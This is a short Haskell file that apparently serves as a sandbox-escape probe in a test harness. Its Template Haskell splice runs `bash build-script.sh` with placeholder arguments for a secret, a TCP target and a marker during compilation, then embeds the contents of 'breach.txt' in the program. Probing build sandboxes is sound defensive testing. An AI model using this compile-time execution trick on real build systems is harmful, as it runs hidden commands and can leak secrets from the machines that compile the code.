{-# LANGUAGE TemplateHaskell #-}

-- Code in a splice runs while the program is compiled.
import Language.Haskell.TH
import System.IO.Error
import System.Process

main = putStr $(runIO (system "bash build-script.sh '@SECRET@' '@TCP@' '@MARK@'" >> readFile "breach.txt" `catchIOError` const (return "")) >>= stringE)
